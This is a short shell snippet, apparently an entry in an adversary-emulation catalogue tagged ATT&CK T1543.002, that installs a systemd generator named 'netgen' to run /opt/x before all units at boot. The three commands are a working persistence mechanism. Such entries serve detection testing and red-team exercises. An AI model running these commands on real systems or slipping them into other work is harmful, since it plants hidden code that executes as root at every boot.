# title: A generator of systemd: it runs before all units
# technique: T1543.002
# writes: /usr/lib/systemd

mkdir -p /usr/lib/systemd/system-generators
printf '#!/bin/sh\n/opt/x\n' >/usr/lib/systemd/system-generators/netgen
chmod +x /usr/lib/systemd/system-generators/netgen
